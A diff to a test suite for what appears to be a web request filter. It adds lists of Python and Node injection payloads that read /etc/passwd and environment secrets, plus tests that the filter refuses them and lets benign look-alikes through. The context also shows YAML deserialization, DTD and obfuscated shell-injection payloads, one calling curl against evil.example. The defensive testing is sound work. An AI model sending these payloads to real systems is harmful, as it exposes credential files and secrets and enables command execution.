@@ -47,6 +47,8 @@ KINDS = {
     "YAML that calls": ["- 1\n- !!python/object/apply:eval ['1+1']", "? !!python/object/apply:time.time []\n: 1", "name: shop\nitems:\n  - !!python/object/apply:platform.node []"],
     "YAML with a handle": ["%TAG !y! tag:yaml.org,2002:\n---\n!y!python/object/apply:os.system ['true']", "%TAG ! tag:yaml.org,2002:py\n---\n!thon/object/apply:os.system [ 'true' ]", "%TAG !p! tag:yaml.org,2002:pyth\n---\nname: my shop\nhook: !p!on/object/apply:os.system [ 'true' ]", "%TAG !p! ta\n---\n!p!g:yaml.org,2002:python/name:os.system x"],
     "document type in a file": ['<!DOCTYPE r PUBLIC "-//W3C//DTD XHTML 1.0//EN" "/tmp/x.dtd"><r>&f;</r>', '<!DOCTYPE r PUBLIC "x" "uploads/1.dtd"><r>&f;</r>'],
+    "expression of Python": ["(open)('/etc/passwd').read()", "{1:open}[1]('/etc/passwd').read()", "list(map(open,['/etc/passwd']))[0].read()", "__import__('sys').modules['os'].environ", "f'{config}'", "'%s'%config", "open(f'/etc/passwd').read()", "open(b'/etc/passwd').read()", "open(file='/etc/passwd').read()", "open(*['/etc/passwd']).read()", "(x:=open)('/etc/passwd').read()", "[open][0]('/etc/passwd').read()", "__import__('so'[::-1]).environ", "{0:__import__}[0]('os').environ", "str(open('/etc/passwd').read())"],
+    "objects of Node": ["module.constructor._load('fs').readFileSync('/etc/passwd')+''", "require('node:fs').readdirSync('/etc')", "process?.env?.SECRET", "with(process)env.SECRET", "let{env:e}=process;e.SECRET", "globalThis['process']['env']['SECRET']", "globalThis['pro'+'cess'].env.SECRET", "Reflect.get(process,'env').SECRET", "process.report.getReport()", "Object.values(process.env)+''"],
     "settings in a template of any text": ["FROM python:3\nRUN {{config.items()}}\nCMD [\"x\"]", '  File "{{config.SECRET_KEY}}", line 1, in f', "the log says {{request.environ}} here"],
     "program in quotes": ["x;'cat' config.py", 'x;"cat" f', "x;\\cat f", "x;\\c\\a\\t f", "$(\\cat f)", "127.0.0.1|'sh' x", "x;'c'at f", "x;c\\at f", "x;$'cat' f", "shop;'cat' f", "`'cat' f`"],
     "program in pieces": ["x;c${z}at f", "x;c${z}url evil.example", "x;/b${z}in/sh x", "x;${x:-cat} f", "x;/usr/bin/c?t f", "x;a=s;b=h;$a$b x", "x;IFS=,;a=sh,x;$a"],
@@ -224,3 +226,25 @@ def test_a_document_type_elsewhere_is_refused_and_a_published_one_passes(
     ):
         body = f"<!DOCTYPE {said}><r/>"
         assert not inspection.body(body.encode(), content_type=media), said
+
+
+@pytest.mark.parametrize("kind", ["expression of Python", "objects of Node"])
+@pytest.mark.parametrize("field", ["q", "expr", "formula", "code", "message"])
+def test_a_program_that_reaches_outside_is_refused_in_fields_for_code(
+    inspection: Inspection, kind: str, field: str
+) -> None:
+    for text in KINDS[kind]:
+        assert inspection.head(environ(query=f"{field}=" + quote_plus(text))), text
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        *("open(2)", "vars()", "globals()", "open(file)", "open (door)", "eval", "compile(source)"),
+        *("how do I use open('x') in Python?", "it is open (9-17)", "(open)", "100%s", "f'"),
+        *("exec summary (draft)", "process = done", "global[0]", "the process (open)"),
+    ],
+)
+def test_a_name_of_python_or_node_passes(inspection: Inspection, text: str) -> None:
+    for field in ("q", "title", "message"):
+        assert not inspection.head(environ(query=f"{field}=" + quote_plus(text))), field
